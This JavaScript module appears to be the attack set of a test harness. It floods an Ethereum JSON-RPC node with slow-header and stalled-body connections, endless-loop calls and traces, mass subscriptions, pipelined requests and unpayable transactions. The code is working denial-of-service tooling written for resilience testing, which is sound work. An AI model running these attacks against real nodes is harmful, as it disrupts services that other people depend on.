// The attacks. Each runs in a process of its own until a time, with bounded numbers of everything, and tells what it did: at least what `least` claims,
// or the harness fails.
import { setMaxListeners } from 'node:events'
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts'
import { ask, goesOn, head, keepOpen, outcome, post, sleep, tally, tcp, webSocket } from './connect.mjs'

const MB = 2 ** 20
/** One for all: what waits to be sent must not fill the attacker's own memory. */
const SPACES = Buffer.alloc(9.9 * MB, ' ')
const LETTERS = Buffer.alloc(MB, 'x')
const openTcp = (socket) => !socket.destroyed
const openWs = (socket) => socket.readyState === socket.OPEN
/** The attacker's own address, where it is not to share that of the honest client. */
const other = { from: '127.0.0.2' }

/** Sends requests from `count` lanes, one after the other in each, until `least` of `counted` is there. */
async function lanes(target, count, next, { pauseMs = 0, least = 1, counted = 'sent' } = {}) {
  const did = { sent: 0, answered: 0, refused: 0, answeredMB: 0 }
  const said = tally()
  let bytes = 0
  const going = () => goesOn(target, did[counted] >= least * target.scale)
  const abort = new AbortController()
  // One for each lane, however many there are.
  setMaxListeners(count, abort.signal)
  const end = setInterval(() => going() || abort.abort(), 100)
  await Promise.all(
    Array.from({ length: count }, async (_, lane) => {
      while (going()) {
        const body = next(lane, did.sent++)
        const answer = await outcome({ ...target, signal: abort.signal }, body)
        bytes += answer.bytes
        if (answer.result) did.answered++
        // What was under way at the end tells nothing.
        else if (abort.signal.aborted) break
        else {
          did.refused++
          said.add(answer.said)
        }
        await sleep(answer.bytes === 0 ? 200 : pauseMs)
      }
    }),
  )
  clearInterval(end)
  return { ...did, answeredMB: Math.round(bytes / MB), said: said.counts }
}

/** Loops for as long as there is gas. */
const LOOP = '0x5b5f56'
/** Emits empty logs until little gas is left. */
const LOGS = '0x5b5f5fa05a612710105f5700'

/** Signs as one of the funded users. */
const signer = (target, user) => signAs(target, privateKeyToAccount(target.users[user].privateKey))
const signAs = (target, account) => (fields) =>
  account.signTransaction({
    type: 'eip1559',
    chainId: target.chainId,
    maxFeePerGas: 100_000_000_000n,
    maxPriorityFeePerGas: 1_000_000n,
    ...fields,
  })

/** @throws Error when the node does not say it */
async function nonceOf(target, user) {
  for (let i = 0; i < 40; i++, await sleep(250)) {
    const answer = await post(target, ask('eth_getTransactionCount', [target.users[user].address, 'pending']))
    if (answer?.result) return Number(answer.result)
  }
  throw new Error('the node did not tell the nonce')
}

/** Sends a transaction; its hash, or what was said instead. */
async function sendRaw(target, raw) {
  const answer = await post(target, ask('eth_sendRawTransaction', [raw]))
  return { hash: answer?.result, said: answer?.error?.message ?? 'no answer' }
}

/** The receipt of a transaction, waited for as long as the attack may take. */
async function receiptOf(target, hash) {
  while (hash && Date.now() < target.latest) {
    const answer = await post(target, ask('eth_getTransactionReceipt', [hash]))
    if (answer?.result) return answer.result
    await sleep(100)
  }
  return undefined
}

/** What the pool takes although no block will: above the lowest base fee that there can be, far below the one that there is. Wei per gas. */
const UNPAYABLE = 1_000n

/** A large transaction that costs nothing and is not included; `bytes` of data. */
const freeTransaction = (sign, nonce, bytes) =>
  sign({
    to: '0x00000000000000000000000000000000000000aa',
    nonce,
    gas: 6_000_000n,
    maxFeePerGas: UNPAYABLE,
    maxPriorityFeePerGas: 1n,
    data: `0x${'00'.repeat(bytes)}`,
  })

async function subscribers(target, { sockets, each, params, notices = 0, onOpen = () => {} }) {
  const did = { asked: 0, accepted: 0, notices: 0 }
  let received = 0
  const said = tally()
  const open = async () => {
    const socket = await webSocket({ ...target, ...other })
    if (!socket) return undefined
    socket.on('message', (data) => {
      received += data.length
      if (data.includes('"eth_subscription"')) did.notices++
      else if (data.includes('"result"')) did.accepted++
      else said.add(/"message":"([^"]*)"/.exec(data)?.[1])
    })
    socket.on('close', (code, reason) => said.add(`closed: ${code} ${reason}`))
    for (let i = 0; i < each && openWs(socket); i++) {
      socket.send(ask('eth_subscribe', params, i))
      did.asked++
    }
    onOpen(socket)
    return socket
  }
  const result = await keepOpen({
    ...target,
    count: sockets,
    least: sockets * target.scale,
    // More would only take the places of those that are to be told.
    keep: Math.min(sockets, Math.ceil(800 / each)),
    enough: () => did.notices >= notices * target.scale,
    perSecond: 100,
    open,
    isOpen: openWs,
  })
  return { ...result, ...did, receivedMB: Math.round(received / MB), said: said.counts }
}

/** Sends one large free transaction a second. Returns how many were taken. */
async function freeTransactions(target, user, bytes, least, needed) {
  const sign = signer(target, user)
  let nonce = await nonceOf(target, user)
  let taken = 0
  await sleep(1_000)
  while (goesOn(target, taken >= least * target.scale && !needed())) {
    const { hash } = await sendRaw(target, await freeTransaction(sign, nonce, bytes))
    if (hash) {
      taken++
      nonce++
    }
    await sleep(1_000)
  }
  return taken
}

/**
 * Fills blocks with logs, one every two seconds. `first` is the number of the first such block, `done` tells how many were included and how many logs the
 * first has.
 */
function logBlocks(target, gas, { user = 1, least = 2, needed = () => false } = {}) {
  let found
  const first = new Promise((resolve) => (found = resolve))
  async function run() {
    const sign = signer(target, user)
    let nonce = await nonceOf(target, user)
    let included = 0
    let logs = 0
    while (goesOn(target, included >= least * target.scale && !needed())) {
      const { hash } = await sendRaw(target, await sign({ nonce, gas, data: LOGS }))
      if (hash) {
        nonce++
        const receipt = await receiptOf(target, hash)
        if (receipt) {
          if (included++ === 0) {
            logs = receipt.logs.length
            found(receipt.blockNumber)
          }
        }
      }
      await sleep(1_000)
    }
    return { included, logs }
  }
  const done = run().finally(() => found(undefined))
  return { first, done }
}

/** Accounts and large transactions of each: so many that what one account may hold of the pool stops none of them. */
const STRANGERS = 270
const EACH = 4
/** With signature and fees just below the 131,072 bytes that one transaction may have. */
const LARGE = 130_900
/** Transactions in one body: hex doubles them. */
const BATCH = 16

const batch = (raws) => `[${raws.map((raw, id) => ask('eth_sendRawTransaction', [raw], id)).join(',')}]`

/** Pays fresh accounts, and signs all that they will send; bodies to be sent. @throws Error when they cannot be paid */
async function prepareContent(target) {
  const pay = signer(target, 1)
  const strangers = Array.from({ length: Math.ceil(STRANGERS * target.scale) }, () =>
    privateKeyToAccount(generatePrivateKey()),
  )
  const nonce = await nonceOf(target, 1)
  const payments = await Promise.all(
    strangers.map(({ address: to }, i) => pay({ nonce: nonce + i, to, value: 10n ** 16n, gas: 21_000n })),
  )
  const answers = await post(target, batch(payments))
  const last = answers?.at?.(-1)?.result
  if (!(await receiptOf({ ...target, latest: Date.now() + 60_000 }, last)))
    throw new Error(`strangers cannot be paid: ${JSON.stringify(answers?.at?.(-1))}`)
  const raws = []
  for (let nonce = 0; nonce < EACH; nonce++)
    for (const stranger of strangers) raws.push(await freeTransaction(signAs(target, stranger), nonce, LARGE))
  const bodies = []
  for (let i = 0; i < raws.length; i += BATCH) bodies.push(Buffer.from(batch(raws.slice(i, i + BATCH))))
  return { bodies, signed: raws.length, someone: strangers[0].address }
}

/** Sends what was signed, then asks for all of it: three times, then sixteen at once, and the pages that the node offers. */
async function poolContent(target, { bodies, signed, someone }) {
  let accepted = 0
  const said = tally()
  for (const body of bodies) {
    if (Date.now() > target.latest) break
    for (const { result, error } of (await post(target, body)) ?? []) {
      if (result) accepted++
      else said.add(error?.message)
    }
  }
  const reads = tally()
  let alone = 0
  const readOne = async (name, method, params) => {
    const answer = await outcome(target, ask(method, params))
    reads.add(`${name}: ${answer.result ? `${Math.round(answer.bytes / 1_000)} kB` : answer.said}`)
    return answer.result ? 1 : 0
  }
  for (let i = 0; i < 3; i++, alone++) await readOne('alone', 'txpool_content')
  const paged =
    (await readOne('page', 'txpool_contentFrom', [someone])) + (await readOne('page', 'txpool_inspect'))
  const atOnce = await lanes(target, 16, () => ask('txpool_content'), { least: 16 / target.scale })
  return {
    signed,
    accepted,
    acceptedMB: Math.round((accepted * LARGE) / MB),
    refusedBy: said.counts,
    reads: reads.counts,
    alone,
    paged,
    ...atOnce,
  }
}

const call = (code, gas = '0x2faf080') => [
  {
    from: '0x00000000000000000000000000000000000000aa',
    to: '0x00000000000000000000000000000000000000bb',
    gas,
  },
  'latest',
  { '0x00000000000000000000000000000000000000bb': { code } },
]

const stalledBodies = (options) => (target) =>
  keepOpen({
    ...target,
    count: 300,
    least: 300 * target.scale,
    perSecond: 40,
    isOpen: openTcp,
    open: async () => {
      const socket = await tcp({ ...target, ...options })
      socket?.resume()
      socket?.write(head(10 * MB))
      // All but the end.
      socket?.write(SPACES)
      return socket
    },
  })

const idleConnections = (options) => (target) =>
  keepOpen({
    ...target,
    count: 1_100,
    least: 1_100 * target.scale,
    perSecond: 1_000,
    isOpen: openTcp,
    open: () => tcp({ ...target, ...options }),
  })
const idleSockets = (options) => (target) =>
  keepOpen({
    ...target,
    count: 1_100,
    least: 1_100 * target.scale,
    perSecond: 400,
    isOpen: openWs,
    open: () => webSocket({ ...target, ...options }),
  })

export const attacks = {
  none: {
    point: '-',
    least: {},
    help: 'nothing: the measure of the machine',
    run: ({ until }) => sleep(until - Date.now()),
  },
  'stalled-bodies': {
    point: 'C.2',
    least: { opened: 300 },
    small: true,
    help: '300 bodies of 10 MB that never end, from another address',
    run: stalledBodies(other),
  },
  'stalled-bodies-same': {
    point: 'C.2',
    least: { opened: 300 },
    help: 'the same from the address of the honest client',
    run: stalledBodies({}),
  },
  'unfinished-messages': {
    point: 'C.2',
    least: { opened: 150, sentMB: 300 },
    help: '150 WebSocket messages of 9 MB that never end',
    async run(target) {
      let bytes = 0
      const result = await keepOpen({
        ...target,
        count: 150,
        least: 150 * target.scale,
        perSecond: 20,
        isOpen: openWs,
        open: async () => {
          const socket = await webSocket({ ...target, ...other })
          for (let i = 0; i < 9; i++)
            if (socket && openWs(socket))
              socket.send(LETTERS, { fin: false }, (error) => (bytes += error ? 0 : LETTERS.length))
          return socket
        },
      })
      return { ...result, sentMB: Math.round(bytes / MB) }
    },
  },
  braces: {
    point: 'C.2',
    least: { sent: 50 },
    help: 'valid bodies of 10 MB of {}, five at once',
    run(target) {
      const body = `[${'{},'.repeat(3_300_000)}{}]`
      return lanes(target, 5, () => body, { pauseMs: 100, least: 50 })
    },
  },
  'pending-subscriptions': {
    point: 'C.3',
    least: { asked: 10_000, accepted: 1_000, taken: 3 },
    help: '10,000 subscriptions to whole pending transactions, and free ones of 130 KB',
    // What cannot be included stays in the pool, before all that its sender sends afterwards.
    lasting: true,
    async run(target) {
      let subscribing = true
      const free = freeTransactions(target, 9, 126_000, 3, () => subscribing)
      const result = await subscribers(target, {
        sockets: 100,
        each: 100,
        params: ['newPendingTransactions', true],
      })
      subscribing = false
      return { ...result, taken: await free }
    },
  },
  'log-subscriptions': {
    point: 'C.3',
    least: { asked: 10_000, accepted: 1_000, included: 2, logs: 30_000 },
    small: true,
    help: '10,000 subscriptions to logs, and 15 M gas of logs',
    async run(target) {
      let subscribing = true
      const logs = logBlocks(target, 15_000_000n, { needed: () => subscribing })
      const result = await subscribers(target, {
        sockets: 100,
        each: 100,
        params: ['logs', {}],
      })
      subscribing = false
      return { ...result, ...(await logs.done) }
    },
  },
  'deaf-subscriptions': {
    point: 'C.3',
    least: { accepted: 200, included: 2, logs: 15_000 },
    help: '100 sockets that subscribe to logs and never read',
    async run(target) {
      const logs = logBlocks(target, 8_000_000n)
      const result = await subscribers(target, {
        sockets: 100,
        each: 2,
        params: ['logs', {}],
        onOpen: (socket) => setTimeout(() => socket.pause(), 1_000),
      })
      return { ...result, ...(await logs.done) }
    },
  },
  filters: {
    point: 'C.4',
    least: { answered: 1_000 },
    small: true,
    help: 'filters that are never polled, 200 a second',
    run: (target) =>
      lanes(target, 4, () => ask('eth_newFilter', [{}]), { pauseMs: 20, least: 1_000, counted: 'answered' }),
  },
  'batch-of-logs': {
    point: 'C.4',
    least: { sent: 20 },
    help: 'batches of 1,000 wide eth_getLogs, four at once',
    run(target) {
      const one = (id) =>
        ask('eth_getLogs', [{ fromBlock: '0x0', toBlock: 'latest', address: `0x${'00'.repeat(20)}` }], id)
      const body = `[${Array.from({ length: 1_000 }, (_, id) => one(id)).join(',')}]`
      return lanes(target, 4, () => body, { least: 20 })
    },
  },
  'log-answers': {
    point: 'C.15',
    least: { included: 2, logs: 30_000, answered: 8, answeredMB: 50 },
    help: 'blocks of 36,000 logs, their receipts asked for four at once',
    async run(target) {
      const logs = logBlocks(target, 15_000_000n)
      const block = await logs.first
      const result = await lanes(
        target,
        4,
        (_, i) =>
          i % 2
            ? ask('eth_getBlockReceipts', [block])
            : ask('eth_getLogs', [{ fromBlock: block, toBlock: block }]),
        { least: 8, counted: 'answered' },
      )
      return { ...result, ...(await logs.done) }
    },
  },
  'slow-headers': {
    point: 'C.15',
    least: { opened: 1_500 },
    help: '1,500 connections that send a byte of their headers a second',
    run: (target) =>
      keepOpen({
        ...target,
        count: 1_500,
        least: 1_500 * target.scale,
        perSecond: 1_000,
        isOpen: openTcp,
        open: async () => {
          const socket = await tcp({ ...target, ...other })
          socket?.write('POST / HTTP/1.1\r\n')
          const timer = setInterval(() => (openTcp(socket) ? socket.write('X') : clearInterval(timer)), 1_000)
          return socket
        },
      }),
  },
  'slow-readers': {
    point: 'C.15',
    least: { opened: 1_500, included: 1, logs: 30_000 },
    help: '1,500 connections that ask for large answers and do not read',
    async run(target) {
      const logs = logBlocks(target, 15_000_000n)
      const body = ask('eth_getBlockReceipts', [await logs.first])
      const result = await keepOpen({
        ...target,
        count: 1_500,
        least: 1_500 * target.scale,
        perSecond: 200,
        isOpen: openTcp,
        open: async () => {
          const socket = await tcp({ ...target, ...other })
          socket?.pause()
          socket?.write(head(body.length) + body)
          return socket
        },
      })
      return { ...result, ...(await logs.done) }
    },
  },
  pipelining: {
    point: 'C.15',
    least: { requests: 10_000 },
    help: '2,000 requests at once on one connection, again and again',
    async run(target) {
      const body = ask('eth_getBlockByNumber', ['latest', false])
      const requests = (head(body.length) + body).repeat(2_000)
      let rounds = 0
      while (goesOn(target, 2_000 * rounds >= 10_000 * target.scale)) {
        const socket = await tcp({ ...target, ...other })
        if (!socket) {
          await sleep(200)
          continue
        }
        let answers = 0
        socket.on('data', (data) => (answers += data.toString('latin1').split('"jsonrpc"').length - 1))
        socket.write(requests)
        while (answers < 2_000 && openTcp(socket) && Date.now() < target.latest) await sleep(50)
        if (answers >= 2_000) rounds++
        socket.destroy()
        await sleep(500)
      }
      return { rounds, requests: 2_000 * rounds }
    },
  },
  connections: {
    point: 'C.13',
    least: { opened: 1_100 },
    help: '1,100 idle connections from another address',
    run: idleConnections(other),
  },
  'connections-same': {
    point: 'C.13',
    least: { opened: 1_100 },
    small: true,
    help: 'the same from the address of the honest client',
    run: idleConnections({}),
  },
  websockets: {
    point: 'C.13',
    least: { opened: 1_100 },
    help: '1,100 idle WebSockets from another address',
    run: idleSockets(other),
  },
  'websockets-same': {
    point: 'C.13',
    least: { opened: 1_100 },
    help: 'the same from the address of the honest client',
    run: idleSockets({}),
  },
  'loop-call': {
    point: 'C.1',
    least: { sent: 20 },
    help: 'eth_call of an endless loop, four at once',
    run: (target) => lanes(target, 4, () => ask('eth_call', call(LOOP)), { least: 20 }),
  },
  'loop-access-list': {
    point: 'C.1',
    least: { sent: 8 },
    help: 'eth_createAccessList of an endless loop, four at once',
    run: (target) =>
      lanes(target, 4, () => ask('eth_createAccessList', [{ data: LOOP, gas: '0x2faf080' }, 'latest']), {
        least: 8,
      }),
  },
  'loop-trace': {
    point: 'C.1',
    least: { sent: 8 },
    help: 'debug_traceCall of an endless loop, four at once',
    run: (target) =>
      lanes(
        target,
        4,
        () => ask('debug_traceCall', [{ data: LOOP, gas: '0x2faf080' }, 'latest', { tracer: 'callTracer' }]),
        { least: 8 },
      ),
  },
  'loop-transaction': {
    point: 'C.1',
    least: { included: 1, sent: 8 },
    help: 'debug_traceTransaction of one that used up 15 M gas, four at once',
    async run(target) {
      const raw = await signer(target, 1)({ nonce: await nonceOf(target, 1), gas: 15_000_000n, data: LOOP })
      const { hash, said } = await sendRaw(target, raw)
      if (!(await receiptOf(target, hash))) return { failed: `the transaction was not included: ${said}` }
      const result = await lanes(
        target,
        4,
        (_, i) => ask('debug_traceTransaction', i % 2 ? [hash, {}] : [hash, { tracer: 'callTracer' }]),
        { least: 8 },
      )
      return { included: 1, ...result }
    },
  },
  'pool-content': {
    point: 'C.10',
    least: { signed: 1_080, accepted: 900, acceptedMB: 112, alone: 3, paged: 2, sent: 16 },
    help: '128 MB that can never be included in the pool, then txpool_content three times, then sixteen at once',
    lasting: true,
    prepare: prepareContent,
    run: poolContent,
  },
  'pool-filling': {
    point: 'C.9',
    least: { taken: 5_000 },
    help: 'ten accounts with up to 5,000 transactions each that can never be included',
    lasting: true,
    burst: true,
    seconds: 40,
    async run(target) {
      let taken = 0
      for (let user = 1; user < 10; user++) {
        const sign = signer(target, user)
        const nonce = await nonceOf(target, user)
        for (let i = 0; i < 5_000 && goesOn(target, taken >= 5_000 * target.scale); i += 100) {
          const raws = await Promise.all(
            Array.from({ length: 100 }, (_, j) =>
              sign({
                to: target.users[user].address,
                nonce: nonce + i + j,
                gas: 21_000n,
                maxFeePerGas: UNPAYABLE,
                maxPriorityFeePerGas: 0n,
              }),
            ),
          )
          const answers = await post(target, batch(raws))
          const fresh = Array.isArray(answers) ? answers.filter(({ result }) => result).length : 0
          taken += fresh
          if (fresh === 0) break
        }
      }
      while (Date.now() < target.until) await sleep(200)
      return { taken }
    },
  },
}
